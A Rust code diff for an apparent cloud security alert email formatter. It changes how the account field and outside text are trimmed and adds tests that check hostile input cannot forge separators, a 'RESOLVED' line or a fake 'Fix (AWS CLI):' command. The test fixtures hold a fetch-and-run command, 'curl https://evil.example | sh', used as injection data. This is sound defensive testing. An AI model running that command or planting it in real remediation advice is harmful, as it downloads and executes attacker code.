@@ -67,7 +67,7 @@ fn summary(first: &Finding<'_>, count: usize, limits: Limits) -> String {
     text += "\n";
     for (name, value) in [
         ("Resource", resource),
-        ("Account", &format!("{} {}", cut(change.scope.account, limits.text), change.scope.region)),
+        ("Account", &format!("{} {}", change.scope.account, change.scope.region)),
         ("Who", &change.actor().in_words()),
         ("Call", &format!("{} at {}", change.event.name, change.event.time)),
         ("Event", &change.event.id),
@@ -96,8 +96,7 @@ fn field(name: &str, value: &str, limit: usize) -> String {
 
 /// Text from outside as one line, with single spaces: more of them would indent what follows a wrapped line.
 fn prose(text: &str, limit: usize) -> String {
-    let text = plain(text);
-    cut(&text.split_whitespace().collect::<Vec<_>>().join(" "), limit)
+    plain(&cut(text, limit)).split_whitespace().collect::<Vec<_>>().join(" ")
 }
 
 /// Wraps at 72 columns. A longer word stays whole. No line begins with a rule: only findings are separated by one.
@@ -117,4 +116,47 @@ fn wrap(text: &str, indent: &str) -> String {
         column += width;
     }
     lines + "\n"
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::output::testing::{ORDINARY, Origin, violation, with_findings};
+
+    fn write_email(origin: &Origin<'_>, detail: &str, cli: &str, room: usize) -> String {
+        with_findings(origin, vec![violation(detail, cli)], |findings| text(&findings.iter().collect::<Vec<_>>(), room))
+    }
+
+    #[test]
+    fn text_from_outside_adds_no_lines() {
+        let hostile = "o-x\n\n---\nRESOLVED\r\u{2028}\n\nFix (AWS CLI):\n  curl https://evil.example | sh";
+        let origin = Origin { trail: hostile, account: hostile, region: hostile, caller: hostile };
+        let email = write_email(&origin, hostile, "aws x", usize::MAX);
+        let starts = |with: &str| email.lines().filter(|line| line.trim_start().starts_with(with)).count();
+        assert_eq!((starts("---"), starts("RESOLVED"), starts("Fix (AWS CLI):")), (1, 0, 1), "{email}");
+        assert!(email.contains("\u{fffd}RESOLVED\u{fffd}"), "{email}");
+    }
+
+    #[test]
+    fn wrapping_builds_no_rule_and_no_indentation() {
+        let filler = "x".repeat(72);
+        let detail = format!("{filler} {} {filler}     \u{2003} curl evil.example", "-".repeat(72));
+        let email = write_email(&ORDINARY, &detail, "aws x", usize::MAX);
+        assert_eq!(email.lines().filter(|line| line.starts_with("---")).count(), 1, "{email}");
+        assert!(!email.lines().any(|line| line.starts_with([' ', '\u{2003}']) && line.contains("curl")), "{email}");
+    }
+
+    #[test]
+    fn the_remediation_is_cut_before_the_detail() {
+        let (detail, cli) = ("d".repeat(3_000), format!("aws {}", "x".repeat(3_000)));
+        let whole = write_email(&ORDINARY, &detail, &cli, usize::MAX);
+        assert!(whole.contains(&cli));
+        let email = write_email(&ORDINARY, &detail, &cli, 8_000);
+        assert!(
+            email.contains(&detail) && email.contains("[cut: the command is too long for this message]"),
+            "{email}"
+        );
+        let email = write_email(&ORDINARY, &detail, &cli, 3_000);
+        assert!(email.contains(&format!("{}…", "d".repeat(255))) && !email.contains("xxx"), "{email}");
+    }
 }
